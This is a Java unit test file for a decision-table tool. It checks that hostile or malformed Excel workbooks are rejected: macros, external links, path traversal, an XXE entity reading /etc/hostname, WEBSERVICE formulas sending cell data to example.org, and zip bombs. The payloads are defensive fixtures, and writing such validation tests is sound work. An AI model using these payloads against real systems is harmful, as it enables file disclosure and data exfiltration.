package io.caravanserai.decisiontables;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.CTCellFormula;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.STCellFormulaType;

class HostileWorkbooksTest {

    @TempDir
    Path folder;

    private Workbooks workbooks;

    @BeforeEach
    void inAnEmptyFolder() {
        workbooks = new Workbooks(folder);
    }

    @Test
    void refusesAnEmptyFile() {
        workbooks.put("offers/a.xlsx", new byte[0]);
        assertThat(workbooks.sentences())
                .containsExactly("offers/a.xlsx: 'offers/a.xlsx' is empty. Maybe copy the file again.");
    }

    @Test
    void refusesWhatIsNoWorkbook() {
        workbooks.put("offers/a.xlsx", "rule \"x\" when then end".getBytes(StandardCharsets.UTF_8));
        assertThat(workbooks.sentences()).singleElement().asString().contains("is not an .xlsx workbook");
    }

    @Test
    void refusesAnEncryptedWorkbook() {
        workbooks.put("offers/a.xlsx", new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 0, 0, 0, 0});
        assertThat(workbooks.sentences())
                .singleElement()
                .asString()
                .contains("is encrypted or in the old .xls format. Maybe save it as .xlsx without a password.");
    }

    @ParameterizedTest
    @CsvSource({"mimetype, an OpenDocument file (.ods)", "xl/workbook.bin, a binary workbook (.xlsb)"})
    void namesTheOtherFormatsOfSpreadsheetPrograms(String part, String format) throws IOException {
        workbooks.put("offers/a.xlsx", zip(null, part, "x"));
        assertThat(workbooks.sentences())
                .containsExactly("offers/a.xlsx: '%s' is part of %s. Maybe save it as Excel workbook (.xlsx)."
                        .formatted(part, format));
    }

    @Test
    void refusesATruncatedWorkbook() throws IOException {
        byte[] whole = Files.readAllBytes(workbooks.gifts());
        workbooks.put(Workbooks.GIFTS, java.util.Arrays.copyOf(whole, whole.length / 2));
        assertThat(workbooks.sentences()).singleElement().asString().contains("is damaged");
    }

    @Test
    void refusesAZipThatIsNoWorkbook() throws IOException {
        workbooks.put("offers/a.xlsx", zip(null, "hello.txt", "hello"));
        assertThat(workbooks.sentences()).singleElement().asString().contains("is damaged");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "xl/vbaProject.bin",
                "xl/macrosheets/sheet1.xml",
                "xl/embeddings/oleObject1.bin",
                "xl/activeX/activeX1.xml"
            })
    void refusesActiveContent(String part) throws IOException {
        workbooks.put(Workbooks.GIFTS, zip(Files.readAllBytes(workbooks.gifts()), part, "x"));
        assertThat(workbooks.sentences())
                .containsExactly("offers/gifts.xlsx: '%s' is active content.".formatted(part)
                        + " Maybe save as .xlsx, which leaves macros out.");
    }

    @ParameterizedTest
    @ValueSource(strings = {"xl/externalLinks/externalLink1.xml", "xl/connections.xml", "xl/queryTables/query1.xml"})
    void refusesLinksToElsewhere(String part) throws IOException {
        workbooks.put(Workbooks.GIFTS, zip(Files.readAllBytes(workbooks.gifts()), part, "<x/>"));
        assertThat(workbooks.sentences()).singleElement().asString().contains("reaches outside the workbook");
    }

    @Test
    void refusesRelationshipsToElsewhereButNotPlainHyperlinks() throws IOException {
        byte[] gifts = Files.readAllBytes(workbooks.gifts());
        String link = "<Relationships><Relationship Id=\"r\" Type=\"http://x/%s\" Target=\"http://x/\""
                + " TargetMode=\"External\"/></Relationships>";
        workbooks.put(Workbooks.GIFTS, zip(gifts, "xl/worksheets/_rels/a.rels", link.formatted("attachedTemplate")));
        assertThat(workbooks.sentences()).singleElement().asString().contains("reaches outside the workbook");
        workbooks.put(Workbooks.GIFTS, zip(gifts, "xl/worksheets/_rels/a.rels", link.formatted("hyperlink")));
        assertThat(workbooks.sentences()).noneMatch(sentence -> sentence.contains("outside"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"../../evil.xml", "xl\\..\\..\\evil.xml"})
    void refusesPartsThatLieElsewhere(String part) throws IOException {
        workbooks.put(Workbooks.GIFTS, zip(Files.readAllBytes(workbooks.gifts()), part, "<x/>"));
        assertThat(workbooks.sentences()).singleElement().asString().contains("is no part of a workbook");
    }

    /** Filled down, as Excel writes it. */
    @Test
    void aSharedFormulaThatCannotBeTakenApartMayStayWhereNothingIsRead() {
        workbooks.gifts(workbook -> {
            XSSFRow row = workbook.createSheet("mine").createRow(0);
            for (int column = 0; column < 2; column++) {
                CTCellFormula formula = row.createCell(column).getCTCell().addNewF();
                formula.setT(STCellFormulaType.SHARED);
                formula.setSi(0);
                if (column == 0) {
                    formula.setRef("A1:B1");
                    formula.setStringValue("_xlfn.LET(_xlpm.x,1,_xlpm.x+C1)");
                }
            }
        });
        assertThat(workbooks.sentences()).isEmpty();
    }

    @Test
    void refusesFormulasThatReachElsewhereAlsoWhereNothingIsRead() {
        workbooks.gifts(workbook -> {
            Workbooks.cell(workbook, "rules", "P2").setCellValue("※ sums");
            Workbooks.cell(workbook, "rules", "P3").setCellFormula("SUM(1,2)&\"a|b\"");
            Workbooks.cell(workbook, "rules", "P4").setCellFormula("WEBSERVICE(\"http://example.org/?\"&A4)");
            workbook.createSheet("mine").createRow(0).createCell(0).setCellFormula("IMAGE(\"http://example.org/\"&A4)");
        });
        assertThat(workbooks.sentences())
                .hasSize(2)
                .allSatisfy(sentence ->
                        assertThat(sentence).contains("reaches outside the workbook. Maybe drop the formula."))
                .anySatisfy(sentence -> assertThat(sentence).contains("sheet 'rules', cell P4: '=WEBSERVICE("))
                .anySatisfy(sentence -> assertThat(sentence).contains("sheet 'mine', cell A1: '=IMAGE("));
    }

    @Test
    void refusesEntities() throws IOException {
        String xxe = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><x>&e;</x>";
        workbooks.put(Workbooks.GIFTS, zip(Files.readAllBytes(workbooks.gifts()), "xl/extra.xml", xxe));
        assertThat(workbooks.sentences())
                .containsExactly("offers/gifts.xlsx: 'xl/extra.xml' declares entities."
                        + " Maybe open it in a spreadsheet program and save it again.");
    }

    @Test
    void refusesTheStrictVariantOfTheFormatWithAdvice() throws IOException {
        String strict = "<workbook xmlns=\"http://purl.oclc.org/ooxml/spreadsheetml/main\"/>";
        workbooks.put("offers/a.xlsx", zip(null, "xl/workbook.xml", strict));
        assertThat(workbooks.sentences())
                .containsExactly("offers/a.xlsx: 'xl/workbook.xml' is in the strict variant of the format."
                        + " Maybe save as Excel workbook (.xlsx).");
    }

    @Test
    void refusesAZipBomb() throws IOException {
        workbooks.put("offers/a.xlsx", zip(null, "xl/workbook.xml", " ".repeat(70 << 20)));
        assertThat(workbooks.sentences()).singleElement().asString().contains("unpacks to more than a table needs");
    }

    @Test
    void refusesAFileThatIsTooLarge() {
        workbooks.put("offers/a.xlsx", new byte[(5 << 20) + 1]);
        assertThat(workbooks.sentences()).singleElement().asString().contains("is more than 5242880 bytes");
    }

    @Test
    void aBadWorkbookDoesNotHideTheProblemsOfItsNeighbours() {
        workbooks.put("offers/a.xlsx", new byte[0]);
        workbooks.giftsWithCell("rules", "C3", "sevn");
        assertThat(workbooks.sentences()).hasSize(2);
    }

    private static byte[] zip(byte @org.jspecify.annotations.Nullable [] base, String part, String content)
            throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(bytes)) {
            if (base != null) {
                copy(base, out);
            }
            out.putNextEntry(new ZipEntry(part));
            out.write(content.getBytes(StandardCharsets.UTF_8));
        }
        return bytes.toByteArray();
    }

    private static void copy(byte[] base, ZipOutputStream out) throws IOException {
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(base))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                out.putNextEntry(new ZipEntry(entry.getName()));
                in.transferTo(out);
            }
        }
    }
}
